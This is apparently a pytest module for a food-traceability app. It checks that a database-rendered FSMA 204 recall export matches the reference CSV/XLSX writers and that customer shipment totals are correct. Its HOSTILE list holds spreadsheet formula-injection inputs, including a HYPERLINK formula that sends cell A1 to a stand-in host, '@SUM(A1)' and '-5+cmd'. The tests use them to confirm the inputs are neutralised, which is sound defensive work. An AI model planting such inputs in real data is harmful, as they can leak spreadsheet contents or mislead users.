"""The FSMA 204 spreadsheet rendered by the database is byte for byte the Python writers' spreadsheet.

``reports.fsma204_export`` renders every CSV line and XLSX row in one statement
(``reports/sql/fsma204_export.sql``); ``rows`` / ``to_csv`` / ``to_xlsx`` over
``fsma_events`` (tests/reports/fsma204_reference.py, the old Python writers) are the reference it must equal. Compared on a generated world (scale 1:
~10^4 rows, every event kind) whose names, codes and numbers were made hostile first: each leading
formula character, plain and not-quite-plain numbers, delimiters, quotes, line breaks, XML specials,
characters XML forbids, empty texts and non-ASCII — and on the hand-built world with an untracked
item target.
"""

from __future__ import annotations

import io
import os
import zipfile
from decimal import Decimal

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import make_url
from sqlalchemy.orm import Session

from lotline.db import engine as engine_mod
from lotline.generate import loader
from lotline.recalls import service as recalls
from lotline.recalls import strategy
from lotline.recalls.flows.drill import drill_strategy
from lotline.recalls.schemas import CaseIn, TargetIn
from lotline.reports import fsma204_export, recall_data
from tests.reports import fsma204_reference as fsma204
from tests.worlds import build_world

# Each hostile text is set on a few rows of a column the spreadsheet shows (by row number, so the
# generated world keeps most of its ordinary values beside them).
HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
    "+1+1",
    "-5",
    "-0.25",
    "-5+cmd",
    "-\u0663",  # an Arabic-Indic digit: not a plain number to a spreadsheet, so it is neutralised
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "a,b",
    'say "hi"',
    "two\nlines",
    "cr\r\nlf",
    "Fish & <Chips>",
    "bell\x07here",
    "nonchar\ufffe",
    "Café — 名前",
    "",
]
# (table, column, every n-th row, must stay unique, may be empty)
COLUMNS = [
    ("customers", "name", 3, False, False),
    ("items", "name", 2, False, False),
    ("items", "sku", 3, True, False),
    ("vendors", "name", 1, False, False),
    ("locations", "name", 2, False, False),
    ("lots", "lot_code", 5, True, True),
    ("lots", "vendor_lot_code", 4, False, True),
    ("sales_orders", "number", 5, True, False),
    ("work_orders", "number", 5, True, False),
]
HOSTILIZE = """
UPDATE {table} t
   SET {column} = CASE WHEN h.text = '' AND NOT :empty THEN '-' ELSE h.text END
                  || CASE WHEN :unique THEN ' #' || x.n ELSE '' END
  FROM (SELECT id, row_number() OVER (ORDER BY id) AS n FROM {table}) AS x,
       unnest(CAST(:hostile AS text[])) WITH ORDINALITY AS h(text, i)
 WHERE t.id = x.id AND mod(x.n, :every) = 0 AND h.i = mod(x.n / :every, :k) + 1
"""


@pytest.fixture(scope="module")
def generated_url(database_url):
    """Scale 1 generated into a database of its own (the generator commits), texts made hostile."""
    name = f"lotline_fsma_{os.getpid()}"
    admin = sa.create_engine(database_url, isolation_level="AUTOCOMMIT", poolclass=sa.pool.NullPool)
    with admin.connect() as conn:
        conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}"')
        conn.exec_driver_sql(f'CREATE DATABASE "{name}"')
    url = make_url(database_url).set(database=name).render_as_string(hide_password=False)
    loader.generate(url, 1, seed=7, check=False)
    eng = engine_mod.create_engine(url)
    with eng.begin() as conn:
        for table, column, every, unique, empty in COLUMNS:
            conn.execute(
                sa.text(HOSTILIZE.format(table=table, column=column)),
                {"hostile": HOSTILE, "k": len(HOSTILE), "every": every, "unique": unique, "empty": empty},
            )
        # a location named as its code is shown by its code alone
        conn.execute(sa.text("UPDATE locations SET name = code WHERE id = (SELECT min(id::text)::uuid FROM locations)"))
    eng.dispose()
    yield url
    with admin.connect() as conn:
        conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    admin.dispose()


@pytest.fixture
def generated(generated_url):
    """A session on the generated world, rolled back at the end."""
    eng = engine_mod.create_engine(generated_url)
    with Session(eng, expire_on_commit=False) as s:
        yield s
        s.rollback()
    eng.dispose()


def _most_used_raw_lot(session: Session) -> str:
    return str(
        session.execute(
            sa.text(
                "SELECT e.parent_lot_id FROM lot_genealogy_edges e WHERE NOT EXISTS"
                " (SELECT 1 FROM lot_genealogy_edges p WHERE p.child_lot_id = e.parent_lot_id)"
                " GROUP BY 1 ORDER BY count(DISTINCT e.child_lot_id) DESC, 1 LIMIT 1"
            )
        ).scalar_one()
    )


def _recall(session: Session, *targets: TargetIn):
    case = recalls.create_case(session, CaseIn(severity="high", summary="export comparison"))
    for t in targets:
        recalls.add_target(session, case.id, t)
    strategy.set_strategy(session, case, drill_strategy(["export comparison"]))
    recalls.activate(session, case.id, signed=False)
    recalls.compute_run(session, case.id)
    return case


def _reference(session: Session, case_id) -> tuple[bytes, bytes, int]:
    table = fsma204.rows(fsma204.fsma_events(session, case_id))
    return fsma204.to_csv(table).encode(), fsma204.to_xlsx(table, title="FSMA 204 X"), len(table)


def _parts(xlsx: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [(name, z.read(name)) for name in z.namelist()]


def _assert_same(session: Session, case_id) -> fsma204_export.Export:
    csv_text, xlsx, n = _reference(session, case_id)
    done = fsma204_export.export(session, fsma204_export.run_sources(session, case_id), title="FSMA 204 X")
    assert done.rows == n
    assert done.csv is not None and done.xlsx is not None
    if done.csv != csv_text:  # the first differing line, not a 10^6-byte diff
        old, new = csv_text.split(b"\r\n"), done.csv.split(b"\r\n")
        first = next(i for i, (a, b) in enumerate(zip(old, new, strict=False)) if a != b)
        assert new[first] == old[first], f"line {first}"
    assert done.csv == csv_text
    # the zip members byte for byte (the zip's own entry times are the clock's)
    assert _parts(done.xlsx) == _parts(xlsx)
    return done


def test_the_rendered_export_equals_the_python_writers_on_a_hostile_generated_world(generated):
    case = _recall(generated, TargetIn(lot=_most_used_raw_lot(generated)))
    done = _assert_same(generated, case.id)
    assert done.rows > 5_000  # every kind of event, and the hostile texts among them
    assert done.csv is not None and done.xlsx is not None
    text = done.csv.decode()
    for lead in ("=HYPERLINK", "+1+1", "@SUM", "-5+cmd", "-\u0663"):
        assert f",'{lead}" in text or f",\"'{lead}" in text, lead
    sheet = openpyxl.load_workbook(io.BytesIO(done.xlsx)).active
    assert sheet.max_row == done.rows + 1 and sheet.auto_filter.ref == f"A1:Q{done.rows + 1}"


def test_a_run_only_of_upstream_lots_and_an_untracked_item_renders_the_same(session):
    build_world(session)
    case = _recall(session, TargetIn(item="SALT"), TargetIn(lot="C-1"))
    done = _assert_same(session, case.id)
    assert done.rows > 0


def test_an_empty_run_still_has_its_header(session):
    build_world(session)
    case = _recall(session, TargetIn(item="SALT"))
    sources = fsma204_export.run_sources(session, case.id)
    empty = fsma204_export.Sources("{}", sources.as_of, "{}", "{}")
    done = fsma204_export.export(session, empty)
    assert done.rows == 0 and done.csv == fsma204_export.CSV_HEADER.encode()
    assert done.xlsx is not None and openpyxl.load_workbook(io.BytesIO(done.xlsx)).active.max_row == 1


def test_only_the_formats_asked_for_are_rendered(session):
    build_world(session)
    case = _recall(session, TargetIn(lot="F-1"))
    sources = fsma204_export.run_sources(session, case.id)
    only_csv = fsma204_export.export(session, sources, xlsx=False)
    only_xlsx = fsma204_export.export(session, sources, csv=False)
    assert only_csv.xlsx is None and only_csv.csv and only_csv.rows == only_xlsx.rows == 7
    assert only_xlsx.csv is None and only_xlsx.xlsx and only_xlsx.xlsx[:2] == b"PK"


def test_a_trace_taken_on_the_spot_renders_as_its_python_spreadsheet(session):
    from lotline.trace import service as trace  # noqa: PLC0415

    build_world(session)
    for lot, direction in (("F-1", "forward"), ("C-1", "backward"), ("S-1", "both")):
        result = trace.trace(session, [trace.resolve_lot(session, lot).id], direction, with_stock=False)
        table = fsma204.rows(fsma204.trace_fsma_events(session, result))
        done = fsma204_export.export(session, fsma204_export.trace_sources(result), title="T")
        assert done.rows == len(table) > 0
        assert done.csv == fsma204.to_csv(table).encode()
        assert done.xlsx is not None and _parts(done.xlsx) == _parts(fsma204.to_xlsx(table, title="T"))


def _expected_customers(lines: list[dict]) -> dict[tuple, tuple]:
    """The report's customer table computed from every shipped line (what it showed before)."""
    out: dict[tuple, list] = {}
    for x in lines:
        key = (x["customer_code"], x["sku"], x["lot_code"], x["uom"])
        p = out.setdefault(key, [Decimal(0), set(), x["shipped_at"], x["shipped_at"]])
        p[0] += x["quantity"]
        p[1].add((x["sales_order_number"], x["shipped_at"]))
        p[2], p[3] = min(p[2], x["shipped_at"]), max(p[3], x["shipped_at"])
    return {k: (q, len(s), first, last) for k, (q, s, first, last) in out.items()}


def test_the_report_sums_what_each_customer_received_as_its_shipped_lines_do(generated):
    case = _recall(generated, TargetIn(lot=_most_used_raw_lot(generated)))
    run = recalls.latest_run(generated, recalls.find_case(generated, case.id))
    expected = _expected_customers(recalls.shipment_lines(generated, run))
    customers = recall_data.report_data(generated, case.id)["impacted_customers"]
    assert len(expected) > 1_000
    got = {}
    for c in customers:
        dates = [(expected[(c["customer_code"], p["sku"], p["lot_code"], p["uom"])][2:]) for p in c["products"]]
        assert (c["first_shipped_at"], c["last_shipped_at"]) == (min(d[0] for d in dates), max(d[1] for d in dates))
        for p in c["products"]:
            got[(c["customer_code"], p["sku"], p["lot_code"], p["uom"])] = (p["quantity"], p["shipments"])
    assert got == {k: v[:2] for k, v in expected.items()}
    assert [c["customer_code"] for c in customers] == sorted(c["customer_code"] for c in customers)


def test_the_report_sums_an_untracked_item_and_a_lot_as_their_shipped_lines_do(session):
    build_world(session)
    case = _recall(session, TargetIn(item="SALT"), TargetIn(lot="F-1"))
    run = recalls.latest_run(session, recalls.find_case(session, case.id))
    expected = _expected_customers(recalls.shipment_lines(session, run))
    got = {
        (c["customer_code"], p["sku"], p["lot_code"], p["uom"]): (p["quantity"], p["shipments"])
        for c in recall_data.report_data(session, case.id)["impacted_customers"]
        for p in c["products"]
    }
    assert got == {k: v[:2] for k, v in expected.items()} and got
